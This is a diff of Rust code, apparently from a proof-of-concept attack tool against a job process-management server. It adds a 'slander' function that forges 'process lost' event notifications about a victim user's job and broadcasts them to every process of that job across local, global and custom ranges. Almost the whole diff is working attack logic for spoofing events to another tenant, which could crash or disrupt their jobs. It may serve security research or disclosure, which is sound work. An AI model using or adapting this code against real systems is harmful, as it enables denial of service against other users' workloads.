@@ -40,7 +40,13 @@ pub(crate) async fn attack(client: &Client, victim: Nspace) -> Result<(), Error>
     }
     let names = client.query([Query::new(&keys::QUERY_NAMESPACES)]).await?;
     println!("names: {}", names.get::<String>(&keys::QUERY_NAMESPACES)?.unwrap_or_default());
-    // that one of its processes is lost, which it would believe of its server
+    slander(client, victim).await;
+    Ok(())
+}
+
+/// Says that a process of another user's job is lost, which that would believe of its server.
+pub(crate) async fn slander(client: &Client, victim: Nspace) {
+    let all = ProcId::wildcard(victim.clone());
     let lost = Info::new(&keys::EVENT_AFFECTED_PROC, ProcId::new(victim, Rank::from_raw(99)));
     let named = Info::new(&keys::EVENT_CUSTOM_RANGE, DataArray::Proc(vec![all]));
     for range in [DataRange::LOCAL, DataRange::GLOBAL, DataRange::CUSTOM] {
@@ -48,7 +54,6 @@ pub(crate) async fn attack(client: &Client, victim: Nspace) -> Result<(), Error>
         let event = event.with_info(lost.clone()).with_info(named.clone());
         tell("notify", client.request(Request::Notify(event)).await);
     }
-    Ok(())
 }
 
 fn tell<T, E: Into<Error>>(what: &str, outcome: Result<T, E>) {
